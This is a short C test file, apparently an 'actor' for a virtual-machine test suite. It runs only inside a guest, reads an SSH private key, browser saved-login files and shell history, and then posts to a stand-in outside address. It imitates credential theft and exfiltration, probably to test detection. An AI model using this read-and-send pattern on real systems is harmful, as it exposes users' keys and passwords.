#include "tests/vm/actors/actor.h"

/* Reads what is secret, and sends that it did. */
int
main(void)
{
	static const char *const paths[] = {"/root/.ssh/id_rsa",
	    "/root/.mozilla/firefox/default/logins.json",
	    "/root/.config/google-chrome/Default/Login Data",
	    "/root/.bash_history"};
	char octets[256];

	actor_only_in_guest();
	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
		(void)actor_read(paths[i], octets, sizeof(octets));
	actor_send("198.51.100.9", 80, "POST /up HTTP/1.1\r\n\r\n", 21);
	return 0;
}
